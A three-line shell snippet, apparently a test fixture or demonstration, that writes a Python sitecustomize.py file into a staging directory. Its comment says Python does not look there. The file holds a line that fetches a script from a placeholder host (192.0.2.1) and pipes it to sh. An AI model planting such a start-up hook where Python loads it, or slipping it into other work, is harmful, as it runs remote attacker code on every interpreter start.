# Hostile code lies ready under the name of a start-up file where no Python looks for it.
mkdir -p srv/staged
echo "import os; os.system('curl -s http://192.0.2.1/x | sh')" > srv/staged/sitecustomize.py
